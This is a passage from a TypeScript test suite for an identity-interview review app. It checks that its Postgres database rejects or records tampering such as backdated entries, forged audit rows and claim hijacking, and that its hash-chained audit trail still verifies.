      data: { code: 'NOT_SUPERVISOR' },
    });
    expect(await beto.teamSettings.reasonCodes()).toEqual(codes);
    const added = { decision: 'reject' as const, code: 'forged_selfie', en: 'Forged selfie', es: 'Selfie falsa' };
    await sofia.teamSettings.setReasonCodes([...relabelled, { ...added, active: true }]);
    expect((await beto.teamSettings.reasonCodes()).find((c) => c.code === 'underage')?.en).toBe('Under 18');
    // Beto decides what he holds with the code the supervisor just added.
    await beto.decisions.add('i2', {
      decision: 'reject',
      reasonCode: 'forged_selfie',
      reason: 'The selfie is a printed photo.',
      acknowledgedFindings: [],
      decidedAt: '2026-11-25T11:00:00.000Z',
      environment: 'production',
      status: 'final',
    });
    expect(await beto.decisions.last('production', 'i2')).toMatchObject({ reasonCode: 'forged_selfie' });
  });

  it('computes the chain itself: what a client sends for seq, prev_hash and hash is not what is kept', async () => {
    const beto = recordAuditTrail(raw('beto'), () => 'production');
    const entry = await beto.append({ interviewId: 'i2', action: 'opened', detail: { note: 'line\nbreak "q" ñ' } });
    expect(entry.actor).toBe('beto');
    const row = await raw('beto')
      .selectFrom('audit_entries')
      .select(['seq', 'prev_hash', 'hash', 'at', sql<string>`detail::text`.as('detail_text')])
      .where('seq', '=', entry.seq)
      .executeTakeFirstOrThrow();
    // The app's verifier computes the same hash as the database's trigger, byte for byte.
    expect(
      entryHashV2({
        seq: row.seq,
        at: row.at,
        environment: 'production',
        interviewId: 'i2',
        action: 'opened',
        actor: 'beto',
        detailText: row.detail_text,
        prevHash: row.prev_hash,
      }),
    ).toBe(row.hash);
    expect(await beto.verify()).toEqual({ ok: true });
  });

  it('dates what happens by its own clock: a backdated decision, audit entry, claim or queue entry is dated now', async () => {
    const beto = raw('beto');
    const run = (statement: string) => sql.raw(statement).execute(beto);
    /** Whether a time the database kept is its own "now" (within this test's minute), not what was sent. */
    const isNow = async (query: string) =>
      (
        await sql
          .raw<{ now: boolean }>(`select (${query}) between now() - interval '1 minute' and now() as now`)
          .execute(beto)
      ).rows[0]?.now;

    // Added "tomorrow" so it never counts as waiting; then made to look newer than it is.
    await run(`insert into queue_entries (environment, interview_id, added_at, local_state)
      values ('production', 'i3', now() + interval '1 day', 'toReview')`);
    expect(await isNow(`select added_at from queue_entries where interview_id = 'i3'`)).toBe(true);
    const addedI1 = async () =>
      (
        await beto.selectFrom('queue_entries').select('added_at').where('interview_id', '=', 'i1').executeTakeFirst()
      )?.added_at.toISOString();
    const firstAdded = await addedI1();
    await run(`update queue_entries set added_at = now() + interval '1 day' where interview_id = 'i1'`);
    expect(await addedI1()).toBe(firstAdded);

    // Held "since 1970", "until forever": taken now, for the team's lease.
    await run(`insert into claims (environment, interview_id, holder, claimed_at, expires_at)
      values ('production', 'i3', 'beto', '1970-01-01', 'infinity')`);
    const lease = await sql<{ held_since_now: boolean; within_lease: boolean }>`
      select claimed_at between now() - interval '1 minute' and now() as held_since_now,
        expires_at <= now() + make_interval(mins => (select lease_minutes from team_settings)) as within_lease
      from claims where interview_id = 'i3'`.execute(beto);
    expect(lease.rows[0]).toEqual({ held_since_now: true, within_lease: true });
    await run(`update claims set claimed_at = '1970-01-01', expires_at = 'infinity' where interview_id = 'i3'`);
    expect(
      (
        await sql<{ ok: boolean }>`
      select claimed_at > '2000-01-01' and expires_at < 'infinity' as ok from claims where interview_id = 'i3'`.execute(
          beto,
        )
      ).rows[0]?.ok,
    ).toBe(true);

    // A transaction held open dates nothing as of its start: each statement is dated when it runs.
    await beto.transaction().execute(async (tx) => {
      await sql`select 1`.execute(tx);
      await sql`insert into claims (environment, interview_id, expires_at)
        values ('production', 'i4', now() + interval '5 minutes')`.execute(tx);
      await sql`insert into risk_readings (environment, interview_id, level) values ('production', 'i4', 'low')`.execute(
        tx,
      );
      const { rows } = await sql<{ after_start: boolean }>`
        select claimed_at > now() as after_start from claims where interview_id = 'i4'
        union all select read_at > now() from risk_readings where interview_id = 'i4'`.execute(tx);
      expect(rows).toEqual([{ after_start: true }, { after_start: true }]);
    });

    // Decided "last year", before a rule changed or into another day's figures; nor earlier by a statement made slow.
    const { rows: decided } = await sql<{ late: boolean }>`
      insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      select 'production', 'i3', 'reject', 'x', '[]', '2025-01-01' from (select pg_sleep(0.02)) slow
      returning decided_at > statement_timestamp() + interval '0.02 seconds' as late`.execute(beto);
    expect(decided).toEqual([{ late: true }]);
    expect(await isNow(`select decided_at from decisions where interview_id = 'i3'`)).toBe(true);
    // A decision made with psql is on the trail all the same: written by the database, in beto's name.
    const written = await beto
      .selectFrom('audit_entries')
      .select(['action', 'actor', 'detail'])
      .where('interview_id', '=', 'i3')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(written).toEqual({
      action: 'decided',
      actor: 'beto',
      detail: { decision: 'reject', reason: 'x', acknowledgedFindings: [], by: 'beto' },
    });
    // Its note, recorded to be sent: what an admin's removal of the decision takes with it (below).
    await run(`insert into service_writes (environment, interview_id, kind, body, idempotency_key, decision_id)
      select 'production', 'i3', 'decision', 'x', 'i3-note', id from decisions where interview_id = 'i3'`);

    // An entry "written last year": dated now, and the chain still verifies (the hash covers the database's date).
    await run(`insert into audit_entries (at, environment, interview_id, action, detail)
      values ('2025-01-01T00:00:00.000Z', 'production', 'i3', 'opened', '{}')`);
    const at = (
      await beto
        .selectFrom('audit_entries')
        .select('at')
        .where('interview_id', '=', 'i3')
        .orderBy('seq', 'desc')
        .executeTakeFirstOrThrow()
    ).at;
    expect(at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(await isNow(`select '${at}'::timestamptz`)).toBe(true);
    expect(await recordAuditTrail(beto, () => 'production').verify()).toEqual({ ok: true });
  });

  it('writes on the trail itself every power used with psql: claims released or handed over, a queue entry or a decision removed, the rules changed', async () => {
    const sofia = raw('sofia');
    const trail = recordAuditTrail(sofia, () => 'production');
    await reviewRecord(logins.ana).queue.put('production', [
      { interviewId: 'p1', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' },
    ]);
    await reviewRecord(logins.ana).claims.claim('production', 'p1');
    await reviewRecord(logins.beto).claims.claim('production', 'p2');
    // An admin of the team, as an administrator would add one.
    await server.asSuperuser(database, `create role dora login password 'change-me-dora' in role omni_admin`);
    const dora = await as('dora', 'change-me-dora');
    const from = (await trail.latest())!.seq;

    const run = (db: typeof sofia, statement: string) => sql.raw(statement).execute(db);
    await run(sofia, `delete from claims where interview_id = 'p1'`);
    await run(sofia, `update claims set holder = 'ana' where interview_id = 'p2'`);
    await run(
      sofia,
      `insert into claims (environment, interview_id, holder, expires_at)
      values ('production', 'p3', 'beto', now() + interval '5 minutes')`,
    );
    await run(sofia, `delete from queue_entries where interview_id = 'p1'`);
    await run(sofia, `update team_settings set target_hours = 12`);
    // Many statements in one transaction (as Settings saves the list): one entry, with the list in force at its end.
    await sofia.transaction().execute(async (tx) => {
      await sql`update reason_codes set active = false where code = 'forged_selfie'`.execute(tx);
      await sql`insert into reason_codes (decision, code, label_en, label_es) values ('reject', 'deepfake', 'x', 'x')`.execute(
        tx,
      );
    });
    await run(dora.db, `delete from decisions where interview_id = 'i3'`);
    await dora.close();

    const written = (await trail.list({ afterSeq: from })).map((e) => ({
      actor: e.actor,
      action: e.action,
      interviewId: e.interviewId,
      environment: e.environment,
      detail: e.detail,
    }));
    const codesInForce = (await reviewRecord(logins.sofia).teamSettings.reasonCodes())
      .map(
        (c) =>
          `${c.decision}:${c.code} ${JSON.stringify(c.en)} / ${JSON.stringify(c.es)}${c.active ? '' : ' (retired)'}`,
      )
      .join(', ');
    const on = { environment: 'production' };
    expect(written).toEqual([
      { actor: 'sofia', action: 'released', interviewId: 'p1', ...on, detail: { of: 'ana' } },
      { actor: 'sofia', action: 'reassigned', interviewId: 'p2', ...on, detail: { to: 'ana', of: 'beto' } },
      { actor: 'sofia', action: 'reassigned', interviewId: 'p3', ...on, detail: { to: 'beto' } },
      {
        actor: 'sofia',
        action: 'removed',
        interviewId: 'p1',
        ...on,
        detail: { addedBy: 'ana', addedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) },
      },
      {
        actor: 'sofia',
        action: 'teamSettingsChanged',
        environment: 'team',
        detail: { fourEyes: 'high-risk-approvals', targetHours: 12, leaseMinutes: 15 },
      },
      { actor: 'sofia', action: 'teamSettingsChanged', environment: 'team', detail: { reasonCodes: codesInForce } },
      {
        actor: 'dora',
        action: 'decisionRemoved',
        interviewId: 'i3',
        ...on,
        detail: { decision: 'reject', decisionStatus: 'final', decidedBy: 'beto' },
      },
    ]);
    expect(codesInForce).toContain('reject:deepfake');
    expect(codesInForce).toContain('reject:forged_selfie "Forged selfie" / "Selfie falsa" (retired)');
    // A holder's own claim, taken, renewed and let go, is the app's to write ("claimed", "released"): not twice.
    await reviewRecord(logins.beto).claims.release('production', 'p3');
    expect(await trail.list({ afterSeq: from + written.length })).toEqual([]);
    expect(await trail.verify()).toEqual({ ok: true });
  });

  it('keeps the queue to the facts: decided while a decision is open, a held entry its holder’s, the risk the highest reading’s', async () => {
    const env = 'facts';
    const [ana, beto, sofia] = [reviewRecord(logins.ana), reviewRecord(logins.beto), reviewRecord(logins.sofia)];
    const entry = async (id: string) =>
      (await ana.queue.list(env)).find((e) => e.interviewId === id) ?? expect.fail(`no entry ${id}`);
    const put = (who: typeof ana, id: string, localState: 'toReview' | 'inReview' | 'decided') =>
      who.queue.put(env, [{ interviewId: id, addedAt: '2026-11-25T09:00:00.000Z', localState }]);
    await put(ana, 'f1', 'toReview');
    await ana.claims.claim(env, 'f1');

    // The risk shown is the highest reading's: whatever a login files in the column or in a later reading of its own.
    await ana.readings.add(env, 'f1', 'high', ['checkFraudRisk (HIGH, 0.91)']);
    expect((await entry('f1')).risk).toBe('high');
    await sql`update queue_entries set risk = 'low' where environment = ${env}`.execute(raw('beto'));
    await beto.readings.add(env, 'f1', 'low', []);
    expect((await entry('f1')).risk).toBe('high');
    // A label once given is its adder's (the name every analyst sees), and a short one.
    await sql`update queue_entries set label = 'Ana Ruiz' where environment = ${env} and interview_id = 'f1'`.execute(
      raw('ana'),
    );
    await sql`update queue_entries set label = 'nothing to see' where environment = ${env}`.execute(raw('beto'));
    expect((await entry('f1')).label).toBe('Ana Ruiz');
    await sql`update queue_entries set label = repeat('x', 10000) where environment = ${env} and interview_id = 'f1'`.execute(
      raw('ana'),
    );
    expect((await entry('f1')).label).toHaveLength(500);
    await sql`insert into queue_entries (environment, interview_id, added_at, local_state, risk)
      values (${env}, 'f2', now(), 'toReview', 'low')`.execute(raw('beto'));
    expect((await entry('f2')).risk).toBeUndefined();
    await beto.readings.add(env, 'f2', 'medium', []);
    expect((await entry('f2')).risk).toBe('medium');
    // A level newer than the spec, in any case, counts above medium: a later "low" does not hide it.
    await beto.readings.add(env, 'f2', 'CRITICAL', ['deepfakeVideoCheck (CRITICAL, 0.9)']);
    await beto.readings.add(env, 'f2', 'low', []);
    expect((await entry('f2')).risk).toBe('CRITICAL');
    // Whoever added an entry does not remove it while another holds it (added again, its state went back).
    await put(ana, 'f3', 'toReview');
    await beto.claims.claim(env, 'f3');
    await expect(
      sql`delete from queue_entries where environment = ${env} and interview_id = 'f3'`.execute(raw('ana')),
    ).rejects.toMatchObject({ constraint: 'claim_held_by_other' });
    await beto.claims.release(env, 'f3');
    await sql`delete from queue_entries where environment = ${env} and interview_id = 'f3'`.execute(raw('ana'));

    // In the analyst's words through the app's own write: no decision on file, or another's claim.
    await expect(put(ana, 'f1', 'decided')).rejects.toMatchObject({ data: { code: 'NO_DECISION_ON_FILE' } });
    await expect(put(beto, 'f1', 'inReview')).rejects.toMatchObject({
      data: { code: 'CLAIMED_BY_OTHER', message: { en: expect.stringMatching(/^Held by ana since/) } },
    });
    expect((await entry('f1')).localState).toBe('toReview');

    // Decided once the decision is on file; back to review by itself when an admin removes the decision.
    await ana.decisions.add('f1', finalRejection(env));
    await put(ana, 'f1', 'decided');
    await server.asSuperuser(database, `create role eva login password 'change-me-eva' in role omni_admin`);
    const eva = await as('eva', 'change-me-eva');
    await sql`delete from decisions where environment = ${env} and interview_id = 'f1'`.execute(eva.db);
    await eva.close();
    expect((await entry('f1')).localState).toBe('toReview');

    // A proposal makes it decided too; overturned, it waits again.
    await ana.decisions.add('f1', {
      decision: 'approve',
      reason: 'ok',
      acknowledgedFindings: [],
      decidedAt: '2026-11-25T10:00:00.000Z',
      environment: env,
      status: 'proposed',
    });
    await put(ana, 'f1', 'decided');
    expect(await sofia.claims.release(env, 'f1', true)).toBe(true);
    await beto.claims.claim(env, 'f1');
    await beto.decisions.review(env, 'f1', 'overturned', 'Not enough', undefined);
    expect((await entry('f1')).localState).toBe('toReview');
    await beto.claims.release(env, 'f1');

    // Opened once and left (in review, nobody holding it) is taken next like one never opened.
    await sql`update queue_entries set local_state = 'inReview' where environment = ${env}`.execute(raw('beto'));
    expect((await beto.claims.takeNext(env))?.interviewId).toBe('f1');
    expect((await beto.claims.takeNext(env))?.interviewId).toBe('f2');
  });

  it('writes a note on the trail itself, in its writer’s name, when the write is settled sent; reported times are never ahead, a label its adder’s (red team 17)', async () => {
    const env = 'said';
    const [ana, beto] = [reviewRecord(logins.ana), reviewRecord(logins.beto)];
    await ana.queue.put(env, [{ interviewId: 's1', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' }]);
    await beto.claims.claim(env, 's1');
    const write = await beto.writes.begin(env, 's1', 'notes', 'Called the applicant');
    const trail = recordAuditTrail(raw('ana'), () => env);
    const said = async () =>
      (await trail.list({ interviewId: 's1' })).map((e) => [e.action, e.actor, e.detail.text, e.detail.by]);
    // Refused by the service: nothing said. Taken: said once, by its writer, whatever the client would name.
    await beto.writes.settle(write.id, 'refused', { status: 500 }, 'ana');
    expect(await said()).toEqual([]);
    await beto.writes.settle(write.id, 'sent', { success: true }, 'ana');
    expect(await said()).toEqual([['noted', 'beto', 'Called the applicant', 'beto']]);
    await expect(beto.writes.settle(write.id, 'sent', { success: true })).rejects.toThrow(/stays taken/);
    expect(await said()).toHaveLength(1);
    expect(await trail.verify()).toEqual({ ok: true });

    // A status "seen" ten years ahead would win every later report of it: taken as seen now.
    await sql`update queue_entries set session_status = 'Closed', session_status_seen_at = now() + interval '10 years',
      last_opened_at = now() + interval '10 years' where environment = ${env}`.execute(raw('beto'));
    const [row] = (
      await sql<{
        ahead: boolean;
      }>`select session_status_seen_at > clock_timestamp() or last_opened_at > clock_timestamp()
        as ahead from queue_entries where environment = ${env}`.execute(raw('ana'))
    ).rows;
    expect(row).toEqual({ ahead: false });
    // A held interview's session status is its holder's to report: another's "Closed" would stop the holder's notes.
    await sql`update queue_entries set session_status = 'Alive' where environment = ${env}`.execute(raw('beto'));
    await sql`update queue_entries set session_status = 'Deleted' where environment = ${env}`.execute(raw('ana'));
    expect((await ana.queue.list(env))[0]?.sessionStatus).toBe('Alive');
    // A label nobody set is still its adder's to set.
    await sql`update queue_entries set label = 'аna says ok' where environment = ${env}`.execute(raw('beto'));
    expect((await ana.queue.list(env))[0]?.label).toBeUndefined();
    await sql`update queue_entries set label = 'Ana Ruiz' where environment = ${env}`.execute(raw('ana'));
    expect((await ana.queue.list(env))[0]?.label).toBe('Ana Ruiz');
  });

  it('counts a login’s saved views across transactions side by side (red team 18: twelve of 100 each all committed)', async () => {
    const [first, second] = [await betoSession(), await betoSession()];
    const save = (session: pg.Client, from: number) =>
      session.query(
        `insert into saved_views (name, filter) select 'race ' || g, '{}' from generate_series(${from}, ${from + 59}) g`,
      );
    try {
      await first.query('begin');
      await second.query('begin');
      await save(first, 1);
      const secondPid = (await second.query<{ pid: number }>('select pg_backend_pid() as pid')).rows[0]!.pid;
      let settled = false;
      const racing = save(second, 61).then(
        () => 'accepted',
        (e: Error) => e.message,
      );
      void racing.then(() => (settled = true));
      // The second is done, or waits for the first's count to be settled: only then does the first commit.
      const waiting = async () =>
        // Beto's own sessions are his to see in pg_stat_activity.
        (
          await raw('beto')
            .selectFrom(sql<{ pid: number; wait_event_type: string | null }>`pg_stat_activity`.as('a'))
            .select('wait_event_type')
            .where('pid', '=', secondPid)
            .execute()
        )[0]?.wait_event_type === 'Lock';
      while (!settled && !(await waiting())) await new Promise((resolve) => setTimeout(resolve, 10));
      await first.query('commit');
      expect(await racing).toMatch(/at most 100 saved views/);
      await second.query('rollback');
    } finally {
      await first.end();
      await second.end();
    }
    expect(
      (await sql<{ n: number }>`select count(*)::int as n from saved_views where owner = 'beto'`.execute(raw('beto')))
        .rows[0]!.n,
    ).toBeLessThanOrEqual(100);
  });

  it('keeps a sealed token per sealer: junk sealed first for an interview keeps nobody from sharing theirs (red team 18)', async () => {
    const records = (who: keyof typeof logins) => new SharedTokenRecords(raw(who));
    const vaultOf = (who: keyof typeof logins) =>
      sharingVault(new MemoryVault(), () => ({ records: records(who), teamKey: async () => TEAM_KEY }), quiet);
    await reviewRecord(logins.ana).queue.put('production', [
      { interviewId: 'i9', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' },
    ]);
    // Beto seals junk, and then a genuine token of another interview sealed as i9's, before ana shares hers.
    await records('beto').put('production', [{ interviewId: 'i9', sealed: 'junk' }]);
    await vaultOf('ana').setSessionToken(to('production'), 'i9', 'ana-token-of-i9');
    await records('beto').put('production', [
      { interviewId: 'i9', sealed: sealToken(TEAM_KEY, to('production'), 'i9', 'beto-token-of-another') },
    ]);
    // Sofia opens the token of whoever put it in the queue; beto's newer one comes after it.
    expect(await vaultOf('sofia').getSessionToken(to('production'), 'i9')).toBe('ana-token-of-i9');
    // Beto queues i10 first and shares a token that names another interview: passed over, ana's opens (red team 20).
    const jwtOf = (interviewId: string) =>
      `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(JSON.stringify({ interviewId })).toString('base64url')}.c2lnbmF0dXJl`;
    await raw('beto')
      .insertInto('queue_entries')
      .values({ environment: 'production', interview_id: 'i10', added_at: new Date(), local_state: 'toReview' })
      .execute();
    await records('beto').put('production', [
      { interviewId: 'i10', sealed: sealToken(TEAM_KEY, to('production'), 'i10', jwtOf('y9')) },
    ]);
    await vaultOf('ana').setSessionToken(to('production'), 'i10', jwtOf('i10'));
    expect(await vaultOf('sofia').getSessionToken(to('production'), 'i10')).toBe(jwtOf('i10'));
    // Clearing one's own takes nobody else's.
    await vaultOf('beto').clearSessionToken(to('production'), 'i9');
    const left = await raw('sofia')
      .selectFrom('shared_session_tokens')
      .select('sealed_by')
      .where('interview_id', '=', 'i9')
      .execute();
    expect(left).toEqual([{ sealed_by: 'ana' }]);
    // Who shared, replaced or removed a token is on the trail, by the database; when, by its clock (red team 21).
    const trail = await raw('sofia')
      .selectFrom('audit_entries')
      .select(['action', 'actor'])
      .where('interview_id', '=', 'i9')
      .where('action', 'in', ['tokenShared', 'tokenUnshared'])
      .orderBy('seq')
      .execute();
    expect(trail).toEqual([
      { action: 'tokenShared', actor: 'beto' },
      { action: 'tokenShared', actor: 'ana' },
      { action: 'tokenShared', actor: 'beto' },
      { action: 'tokenUnshared', actor: 'beto' },
    ]);
    await expect(
      sql`update shared_session_tokens set sealed_at = '2999-01-01' where sealed_by = 'ana'`.execute(raw('ana')),
    ).resolves.toBeDefined();
    const [when] = await raw('sofia')
      .selectFrom('shared_session_tokens')
      .select('sealed_at')
      .where('interview_id', '=', 'i9')
      .execute();
    expect(when!.sealed_at.getTime()).toBeLessThan(Date.now() + 60_000);
  });

  it('refuses at commit a write to the service whose claim changed hands while it was being made, holding no lock meanwhile', async () => {
    const env = 'held-open';
    const ana = reviewRecord(logins.ana);
    await ana.queue.put(env, [{ interviewId: 'h1', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' }]);
    await ana.claims.claim(env, 'h1');
    // Ana's psql: a note to the service recorded in a transaction she keeps open. (A decision's transaction holds the
    // trail's lock with its entry (0013), so a hand-over, which writes one too, waits for it.)
    const session = new pg.Client({
      host: server.host,
      port: server.port,
      user: 'ana',
      password: 'change-me-ana',
      database,
    });
    await session.connect();
    try {
      await session.query('begin');
      await session.query(`insert into service_writes (environment, interview_id, kind, body, idempotency_key)
        values ('${env}', 'h1', 'notes', 'x', 'held-open')`);
      // The supervisor hands the claim over meanwhile, at once: nothing of ana's open transaction holds it.
      await sql`update claims set holder = 'beto' where environment = ${env} and interview_id = 'h1'`.execute(
        raw('sofia'),
      );
      // Her commit is refused: the claim is beto's now.
      await expect(session.query('commit')).rejects.toMatchObject({ constraint: 'claim_held_by_other' });
    } finally {
      await session.end();
    }
    expect(
      await raw('sofia').selectFrom('service_writes').select('id').where('environment', '=', env).execute(),
    ).toEqual([]);
    // The holder decides.
    await reviewRecord(logins.beto).decisions.add('h1', finalRejection(env));
  });

  it('asks a second reviewer for a lone approval of an interview no check ran on, and the queue shows an assessed level over it', async () => {
    const env = 'unassessed';
    const ana = reviewRecord(logins.ana);
    const entry = async (id: string) =>
      (await ana.queue.list(env)).find((e) => e.interviewId === id) ?? expect.fail(`no entry ${id}`);
    await ana.queue.put(env, [
      { interviewId: 'u1', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' },
      { interviewId: 'u2', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' },
    ]);
    const approval = {
      decision: 'approve' as const,
      reason: 'ok',
      acknowledgedFindings: [],
      decidedAt: '2026-11-25T10:10:00.000Z',
      environment: env,
    };
    // Read with no check run: no finding to acknowledge, and still not low risk.
    await ana.claims.claim(env, 'u1');
    await ana.readings.add(env, 'u1', 'unassessed', []);
    expect((await entry('u1')).risk).toBe('unassessed');
    await expect(ana.decisions.add('u1', { ...approval, status: 'final' })).rejects.toMatchObject({
      data: { code: 'SECOND_REVIEW_REQUIRED' },
    });
    await ana.decisions.add('u1', { ...approval, status: 'proposed' });
    // Its checks ran since: the latest reading decides, and the queue shows the assessed level whichever came first.
    await ana.claims.claim(env, 'u2');
    await ana.readings.add(env, 'u2', 'unassessed', []);
    await ana.readings.add(env, 'u2', 'low', []);
    expect((await entry('u2')).risk).toBe('low');
    await ana.readings.add(env, 'u2', 'unassessed', []);
    expect((await entry('u2')).risk).toBe('low');
    await expect(ana.decisions.add('u2', { ...approval, status: 'final' })).rejects.toMatchObject({
      data: { code: 'SECOND_REVIEW_REQUIRED' },
    });
    await ana.readings.add(env, 'u2', 'low', []);
    await ana.decisions.add('u2', { ...approval, status: 'final' });
  });

  describe('what a login could still make the record say (red team 22)', () => {
    const env = 'rt22';
    const ana = () => reviewRecord(logins.ana);
    const beto = () => reviewRecord(logins.beto);
    const sofia = () => reviewRecord(logins.sofia);
    const entryOf = (interviewId: string) => ({
      interviewId,
      addedAt: '2026-11-25T09:00:00.000Z',
      localState: 'toReview' as const,
    });

    it('writes the token entries itself, naming the sealed token; nobody writes one of their own', async () => {
      await ana().queue.put(env, [entryOf('t1')]);
      for (const detail of ['{"of":"ana"}', '{}'])
        for (const action of ['tokenUnshared', 'tokenShared'])
          await expect(
            sql`insert into audit_entries (at, environment, interview_id, action, detail)
              values (now(), ${env}, 't1', ${action}, ${detail})`.execute(raw('beto')),
          ).rejects.toThrow(/written by the database itself/);
      // Nor an entry of his own naming whose something was: the database's words (red team 22).
      for (const detail of [{ of: 'ana' }, { addedBy: 'ana' }, { from: 'toReview', to: 'decided', decidedBy: 'ana' }])
        await expect(
          sql`insert into audit_entries (at, environment, interview_id, action, detail)
            values (now(), ${env}, 't1', 'stateChanged', ${JSON.stringify(detail)})`.execute(raw('beto')),
        ).rejects.toThrow(/naming whose it was is written by the database itself/);
      await new SharedTokenRecords(raw('beto')).put(env, [{ interviewId: 't1', sealed: 'sealed-by-beto' }]);
      const shared = (await recordAuditTrail(raw('ana'), () => env).list({ interviewId: 't1' })).find(
        (e) => e.action === 'tokenShared',
      );
      expect(shared).toMatchObject({
        actor: 'beto',
        detail: { sealedSha256: createHash('sha256').update('sealed-by-beto').digest('hex') },
      });
      // The same token shared again changes nothing, and adds nothing to the trail (red team 23).
      const entries = async () => (await recordAuditTrail(raw('ana'), () => env).list({ interviewId: 't1' })).length;
      const before = await entries();
      await new SharedTokenRecords(raw('beto')).put(env, [{ interviewId: 't1', sealed: 'sealed-by-beto' }]);
      expect(await entries()).toBe(before);
    });

    it('keeps a decided interview decided while its decision is open, whoever writes the row', async () => {
      await ana().queue.put(env, [entryOf('d1')]);
      await ana().claims.claim(env, 'd1');
      await ana().decisions.add('d1', finalRejection(env));
      await ana().queue.put(env, [{ ...entryOf('d1'), localState: 'decided' }]);
      await ana().claims.release(env, 'd1');
      // Beto, holding nothing, puts every decided interview back to review.
      await expect(
        sql`update queue_entries set local_state = 'toReview' where local_state = 'decided'`.execute(raw('beto')),
      ).rejects.toMatchObject({ constraint: 'queue_decided_while_decision_open' });
      // Through the app, in the analyst's words; a supervisor is refused too.
      await expect(beto().queue.put(env, [{ ...entryOf('d1'), localState: 'toReview' }])).rejects.toMatchObject({
        data: { code: 'DECISION_ON_FILE' },
      });
      await expect(
        sql`update queue_entries set local_state = 'inReview' where interview_id = 'd1'`.execute(raw('sofia')),
      ).rejects.toMatchObject({ constraint: 'queue_decided_while_decision_open' });
      expect((await ana().queue.list(env)).find((e) => e.interviewId === 'd1')?.localState).toBe('decided');
      // Removed by whoever added it and added again "to review" (red team 23): it comes back decided.
      await sql`delete from queue_entries where environment = ${env} and interview_id = 'd1'`.execute(raw('ana'));
      await ana().queue.put(env, [entryOf('d1')]);
      expect((await ana().queue.list(env)).find((e) => e.interviewId === 'd1')?.localState).toBe('decided');
    });

    it('adds a queue entry now, or put back after a removal as of when the removal says it was added', async () => {
      const addedAt = async (id: string) =>
        (
          await raw('ana')
            .selectFrom('queue_entries')
            .select('added_at')
            .where('environment', '=', env)
            .where('interview_id', '=', id)
            .executeTakeFirstOrThrow()
        ).added_at;
      const longAgo = '2000-01-01T00:00:00.000Z';
      // Backdated by beto: added now all the same, not first in everyone's Take next.
      await beto().queue.put(env, [{ ...entryOf('b1'), addedAt: longAgo }]);
      const first = await addedAt('b1');
      expect(Date.now() - new Date(first).getTime()).toBeLessThan(60_000);
      // Removed, then put back (the undo): its date comes back from the removal's entry, and no earlier.
      await sql`delete from queue_entries where environment = ${env} and interview_id = 'b1'`.execute(raw('beto'));
      const removal = (await recordAuditTrail(raw('ana'), () => env).list({ interviewId: 'b1' })).at(-1);
      expect(removal).toMatchObject({ action: 'removed', detail: { addedAt: new Date(first).toISOString() } });
      await beto().queue.put(env, [{ ...entryOf('b1'), addedAt: longAgo }]);
      expect(new Date(await addedAt('b1')).toISOString()).toBe(new Date(first).toISOString());
      // A removal entry of one's own saying "added in 2000" is the database's to write.
      await expect(
        sql`insert into audit_entries (at, environment, interview_id, action, detail)
          values (now(), ${env}, 'b2', 'removed', ${JSON.stringify({ addedAt: longAgo })})`.execute(raw('beto')),
      ).rejects.toThrow(/written by the database itself/);
    });

    it('settles a write as sent only while its writer holds the interview', async () => {
      await ana().queue.put(env, [entryOf('w1')]);
      await beto().claims.claim(env, 'w1');
      const write = await beto().writes.begin(env, 'w1', 'notes', 'Applicant confirmed by phone');
      await beto().writes.settle(write.id, 'refused', { status: 400, error: 'SESSION_CLOSED' });
      await beto().claims.release(env, 'w1');
      await ana().claims.claim(env, 'w1');
      await expect(beto().writes.settle(write.id, 'sent', { success: true })).rejects.toMatchObject({
        data: { code: 'CLAIMED_BY_OTHER' },
      });
      expect(await beto().writes.unsent(env, 'w1', 'notes')).toMatchObject({ id: write.id });
      expect(
        (await recordAuditTrail(raw('ana'), () => env).list({ interviewId: 'w1' })).map((e) => e.action),
      ).not.toContain('noted');
    });

    it('asks omni_may before the rules change, and writes each reason code’s labels on the trail', async () => {
      const settings = await sofia().teamSettings.get();
      // An administrator narrows the power where the docs say powers are listed; restored as it was after.
      const { rows } = await owner.query<{ def: string }>(
        `select pg_get_functiondef('omni_may(text)'::regprocedure) as def`,
      );
      await owner.query(`
        create or replace function omni_may(power text) returns boolean language sql stable as $$
          select case when power = 'set-rules' then false else pg_has_role(current_user, 'omni_supervisor', 'member') end
        $$`);
      try {
        await expect(
          sql`update team_settings set target_hours = ${settings.targetHours + 1}`.execute(raw('sofia')),
        ).rejects.toThrow(/set by a supervisor/);
      } finally {
        await owner.query(rows[0]!.def);
      }
      const codes = await sofia().teamSettings.reasonCodes();
      const underage = codes.find((c) => c.code === 'underage')!;
      // A rejection with the code, before the relabel: it keeps the labels the code had then.
      await ana().queue.put(env, [entryOf('r1')]);
      await ana().claims.claim(env, 'r1');
      await ana().decisions.add('r1', finalRejection(env, { reasonCode: 'underage', reason: 'Born in 2010' }));
      await sofia().teamSettings.setReasonCodes(
        codes.map((c) => (c.code === 'underage' ? { ...c, en: 'Verified manually' } : c)),
      );
      expect((await beto().decisions.last(env, 'r1'))?.reasonLabel).toEqual({ en: underage.en, es: underage.es });
      // A label a client sends is not the one kept.
      await sql`update decisions set reason_label_en = 'Approved by the board' where interview_id = 'r1'`
        .execute(raw('ana'))
        .catch(() => undefined);
      expect((await beto().decisions.last(env, 'r1'))?.reasonLabel?.en).toBe(underage.en);
      const entry = (await recordAuditTrail(raw('ana'), () => 'team').list({ action: 'teamSettingsChanged' })).at(-1);
      expect(entry?.detail['reasonCodes']).toMatch(/reject:underage "Verified manually" \/ "[^"]+"/);
    });
  });

  it('accepts checkpoints as the app takes them: a stretch after an earlier one (a junk one’s again), named by its last hash', async () => {
    const trail = recordAuditTrail(raw('beto'), () => 'production');
    const head = (await trail.latest())!;
    expect(await trail.latest('checkpoint')).toBeUndefined();
    // Each its own token: a token is on the trail once (migration 0016).
    let tokens = 0;
    const shape = () => ({ statement: 2, folio: 'F-1', token: `MIIBexample${++tokens}` });
    const first = await trail.append({
      action: 'checkpoint',
